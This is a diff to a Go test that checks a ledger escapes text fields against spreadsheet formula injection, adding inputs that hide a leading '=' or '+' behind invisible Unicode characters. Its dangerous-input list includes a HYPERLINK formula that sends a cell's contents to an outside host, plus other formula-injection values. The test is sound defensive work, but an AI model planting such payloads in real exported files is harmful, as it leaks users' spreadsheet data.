@@ -205,8 +205,8 @@ func TestTextsAreNoFormulas(t *testing.T) {
 	t.Parallel()
 	l := openLedger(t, memstore.New(), acme, store.Options{})
 	dangerous := []string{`=HYPERLINK("http://example.com?"&A1,"x")`, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1", " =1", "\u00a0=1", "\ufeff=1",
-		"\x01=1", "\tx", "\rx", "\nx", "=", "-", "\u200b+1", "+49 151 1234567"}
-	harmless := []string{"plain", "a=1", "1-1", "ops@example.com", "'=1", "", " ", "{=1}", "日本語", "\"=1\"", "a,b", "a;=1", "a\rb\nc\r\nd", `"`, "#1"}
+		"\x01=1", "\tx", "\rx", "\nx", "=", "-", "\u200b+1", "\u0301=1", "\ufe0f=1", "\U000e0100=1", "\u034f=1", "\u115f=1", "\u3164=1", "\uffa0=1", "\u2800=1", " \u2800\u0301\u3164=1", "+49 151 1234567"}
+	harmless := []string{"plain", "a=1", "1-1", "ops@example.com", "'=1", "", " ", "{=1}", "日本語", "\u0301a", "\u2800a=1", "\u2801=1", "\"=1\"", "a,b", "a;=1", "a\rb\nc\r\nd", `"`, "#1"}
 	for i, text := range append(dangerous, harmless...) {
 		_, err := l.Grant(t.Context(), credit.Grant{Amount: decimal.NewFromInt(1), Operator: text, Remark: text, Key: text, Reference: text, OccurredAt: time.Unix(int64(i), 0)})
 		require.NoError(t, err)
